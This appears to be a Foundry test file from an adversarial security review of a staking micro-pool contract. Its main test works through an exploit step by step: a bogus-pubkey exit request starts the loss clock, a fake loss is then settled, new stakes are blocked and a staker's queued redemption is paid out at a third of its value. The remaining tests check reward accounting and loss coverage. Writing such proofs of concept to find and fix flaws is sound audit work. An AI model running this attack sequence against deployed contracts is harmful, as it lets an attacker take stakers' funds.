// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IParameters} from "../../src/interfaces/IParameters.sol";
import {IMicroPool} from "../../src/interfaces/IMicroPool.sol";
import {Protocol} from "../utils/Protocol.sol";
import {DepositData} from "../utils/DepositData.sol";
import {Eip7002} from "../utils/Eip7002.sol";

/// Second adversarial review of the pools (after the loss-settlement delay and `coverLoss`).
contract MicroPoolReview2AttacksTest is Protocol {
    address internal provider;
    address internal alice;
    address internal bob;
    address internal carol;
    address internal attacker = makeAddr("attacker");

    function setUp() public {
        deployProtocol();
        provider = qualifiedProvider("provider", IParameters.TrustLevel.SemiTrusted); // k = 8 ETH
        alice = staker("alice");
        bob = staker("bob");
        carol = staker("carol");
        vm.deal(attacker, 100 ether);
    }

    function filledPool() internal returns (uint256 poolId) {
        poolId = openPool(provider, 8 ether);
        stakeIn(poolId, alice, 4 ether);
        stakeIn(poolId, bob, 8 ether);
        stakeIn(poolId, carol, 12 ether);
    }

    /// `requestExit` does not check the pubkey, so an exit request the beacon chain ignores (a pubkey that
    /// is not this vault's validator) starts the 45-day loss clock, and nobody's later real request can move
    /// it. 45 days on, 8 ETH sent to the vault settle the running, healthy validator as a 24 ETH staker loss
    /// (16 ETH uncovered): the provider's collateral is released, every stake in the protocol is refused,
    /// and the attacker pays out Alice's queued ticket (`claimRedemption` is permissionless) at 1/3 of its
    /// value. When the real 32 ETH arrive the others are made whole, but Alice's 2.67 ETH go to the
    /// insurance pool for good.
    function test_Attack_BogusPubkeyExitRequest_StartsLossClock_FakeLossChargesQueuedTicket() public {
        uint256 poolId = filledPool();
        activate(poolId);
        // Alice asks for her principal back while the validator runs: queued (ticket 1).
        vm.prank(alice);
        (, uint256 ticket) = pools.redeem(4 ether);
        assertEq(ticket, 1);
        address vault = bogusClockThenFakeLoss(poolId);
        refusedStake();

        // The attacker pays out Alice's ticket at the depressed rate.
        uint256 aliceBefore = alice.balance;
        vm.prank(attacker);
        assertEq(pools.claimRedemption(1), 1_333_333_333_333_333_333);
        assertEq(alice.balance - aliceBefore, 1_333_333_333_333_333_333, "4 aETH paid out as 1.33 ETH");
        (, uint256 loss,,) = pools.redemptionBooks();
        assertEq(loss, 13_333_333_333_333_333_333);

        // The real exit (32 ETH) arrives and is swept: the loss still open goes back to aETH, Alice's
        // charged 2.67 ETH go to the insurance pool.
        vm.deal(vault, 32 ether);
        pools.settle(poolId);
        uint256 reserve;
        (reserve, loss,,) = pools.redemptionBooks();
        assertEq(loss, 0);
        assertEq(reserve, 20 ether);
        assertEq(address(insurance).balance, 2_666_666_666_666_666_667 + 0.8 ether, "Alice's charge + 10 % of 8 ETH");
        assertEq(redeemAll(bob), 8 ether, "Bob whole");
        assertEq(redeemAll(carol), 12 ether, "Carol whole");
        assertEq(claim(poolId, alice), 0.8 ether, "Alice's rewards: 0.2 per ETH of the attacker's 8 ETH");
        // Alice: 4 ETH staked, 1.33 + 0.8 back; she lost 1.87 ETH net (2.67 ETH of principal).
    }

    function refusedStake() internal {
        address other = qualifiedProvider("other", IParameters.TrustLevel.SemiTrusted);
        uint256 healthy = openPool(other, 8 ether);
        address dave = staker("dave");
        vm.expectRevert(abi.encodeWithSelector(IMicroPool.PoolUncoveredLossOpen.selector, 16 ether));
        vm.prank(dave);
        pools.stake{value: 24 ether}(healthy);
    }

    function bogusClockThenFakeLoss(uint256 poolId) internal returns (address vault) {
        uint256 end = pools.getPool(poolId).endTime;
        vm.warp(end + pools.EXIT_GRACE());
        bytes memory bogus = abi.encodePacked(bytes32(uint256(0xbad)), bytes16(0)); // 48 bytes, not the validator
        vm.prank(attacker);
        pools.requestExit{value: 1}(poolId, bogus);
        (address source, bytes memory queuedKey,) = Eip7002.request(vm, 0);
        assertEq(source, pools.vaultOf(poolId));
        assertEq(queuedKey, bogus, "the CL ignores it: no validator with this pubkey has the vault as credentials");
        assertTrue(keccak256(queuedKey) != keccak256(DepositData.pubkey(poolId)));
        uint256 clock = block.timestamp;
        assertEq(pools.getPool(poolId).exitRequestedAt, clock);

        // An honest keeper (or the provider) requests the real exit a day before the delay ends: the clock
        // stays at the bogus request, and a real exit cannot arrive within one day.
        vm.warp(clock + pools.LOSS_SETTLEMENT_DELAY() - 1 days);
        vm.deal(bob, bob.balance + 1);
        vm.prank(bob);
        pools.requestExit{value: 1}(poolId, DepositData.pubkey(poolId));
        assertEq(pools.getPool(poolId).exitRequestedAt, clock);

        vm.warp(clock + pools.LOSS_SETTLEMENT_DELAY());
        vault = pools.vaultOf(poolId);
        vm.startPrank(attacker);
        (bool sent,) = vault.call{value: 8 ether}("");
        assertTrue(sent);
        pools.settle(poolId);
        vm.stopPrank();
        IMicroPool.Pool memory p = pools.getPool(poolId);
        assertEq(uint8(p.status), uint8(IMicroPool.Status.Completed));
        assertEq(p.uncoveredLoss, 16 ether);
        assertEq(p.providerShortfall, 8 ether);
        assertEq(registry.getProvider(provider).activeCommitments, 0, "collateral released, no failure recorded");
        (uint256 reserve, uint256 loss,,) = pools.redemptionBooks();
        assertEq(reserve, 8 ether);
        assertEq(loss, 16 ether);

    }

    /// With no insurance cut, any sequence of sweeps leaves claims within what was set aside: every staker
    /// and the provider are paid and the contract keeps >= 0 (a shortfall would revert the last payout).
    function testFuzz_RewardStepBack_ClaimsNeverExceedSetAside(
        uint256 k,
        uint256 a,
        uint256 r0,
        uint256 r1,
        uint256 r2,
        uint256 r3
    ) public {
        vm.prank(governance);
        params.set(IParameters.Key.ProfitInsuranceBps, 0);
        k = bound(k, 8 ether, 20 ether);
        a = bound(a, 1 ether, 32 ether - k - 1 ether);
        uint256 poolId = openPool(provider, k);
        stakeIn(poolId, alice, a);
        stakeIn(poolId, bob, 32 ether - k - a);
        activate(poolId);
        returnAndSettle(poolId, 32 ether + bound(r0, 0, 5 ether));
        address vault = pools.vaultOf(poolId);
        uint256[3] memory late = [bound(r1, 1, 1 ether), bound(r2, 1, 1 ether), bound(r3, 1, 1 ether)];
        for (uint256 i; i < 3; ++i) {
            vm.deal(vault, late[i]);
            pools.settle(poolId);
            if (i == 1 && pools.claimable(poolId, alice) > 0) claim(poolId, alice);
        }
        if (pools.claimable(poolId, alice) > 0) claim(poolId, alice);
        if (pools.claimable(poolId, bob) > 0) claim(poolId, bob);
        redeemAll(alice);
        redeemAll(bob);
        vm.prank(provider);
        pools.claimProvider(poolId);
        assertLt(address(pools).balance, 100, "only rounding dust left");
    }

    /// Whoever closes a loss with its own ETH (to let stakes resume) is never paid back: when the failed
    /// validator's remaining ETH arrives, the pool's uncovered loss is no longer open, so the waterfall
    /// sends the 12 ETH the closer paid to the insurance pool.
    function test_CoverLossWithOwnEth_RecoveryGoesToInsurance() public {
        uint256 poolId = filledPool();
        activate(poolId);
        vm.startPrank(governance);
        pools.reportFailure(poolId, 0);
        vm.deal(pools.vaultOf(poolId), 12 ether);
        pools.settle(poolId);
        vm.stopPrank();
        address closer = makeAddr("closer");
        vm.deal(closer, 12 ether);
        vm.prank(closer);
        assertEq(pools.coverLoss{value: 12 ether}(), 12 ether);
        assertEq(closer.balance, 0);

        vm.deal(pools.vaultOf(poolId), 20 ether);
        pools.settle(poolId);
        assertEq(address(insurance).balance, 12 ether, "the closer's 12 ETH");
        assertEq(closer.balance, 0, "nothing back for the closer");
        vm.prank(provider);
        assertEq(pools.claimProvider(poolId), 8 ether, "the provider is made whole");
        assertEq(redeemAll(alice), 4 ether);
    }
}
